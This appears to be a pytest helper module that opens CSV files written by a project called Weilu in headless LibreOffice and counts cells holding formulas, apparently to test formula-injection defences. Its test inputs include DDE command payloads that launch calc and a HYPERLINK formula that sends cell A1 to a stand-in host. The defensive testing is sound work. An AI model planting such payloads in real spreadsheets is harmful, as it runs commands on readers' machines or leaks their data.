"""LibreOffice as a reader of the tables that Weilu writes, where it is installed."""

import re
import shutil
import subprocess
from pathlib import Path

import pytest

SIGNS = "=+-@\t\r＝＋－＠"
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("http://elsewhere.example/?"&A1,"围炉")',
    "=cmd|' /C calc'!A0",
    "@SUM(1;2)",
    "'=1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("a";"b";"c")',
    '=WEBSERVICE("http://elsewhere.example")',
]
#: What could hide a sign from a look at the first character alone.
BEFORE = ["", " ", "'", "''", '"', "\n", "\u00a0", "\u200b", "\u200e", "\u3000", "\ufeff"]
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
#: 350 MB and more: not for every run. On Debian: apt-get install --no-install-recommends
#: libreoffice-calc.
needs_libreoffice = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice is not on this machine (libreoffice-calc, 350 MB)"
)
#: Comma, quotes, UTF-8, from the first line; the last token has formulas evaluated.
READING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
_CELL = re.compile(r"<table:table-cell(?![^>]*number-columns-repeated)[^>]*office:value-type")
_FORMULA = re.compile(r"table:formula=")


def opened(table: Path, *, also_saved: bool = False) -> tuple[int, int]:
    """Open a CSV as a person does; return how many of its cells hold a value, and a formula.

    With ``also_saved`` it is saved as a workbook first, and that is opened.
    """
    if also_saved:
        table = _converted(table, "xlsx", f"--infilter={READING}")
        saved = _converted(table, "fods")
    else:
        saved = _converted(table, "fods", f"--infilter={READING}")
    text = saved.read_text("utf-8")
    return len(_CELL.findall(text)), len(_FORMULA.findall(text))


def _converted(file: Path, kind: str, *options: str) -> Path:
    folder = file.parent
    profile = f"-env:UserInstallation=file://{folder}/profile"
    wanted = ["--convert-to", kind, "--outdir", str(folder), str(file)]
    subprocess.run(
        [str(SOFFICE), profile, "--headless", *options, *wanted],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return file.with_suffix(f".{kind}")
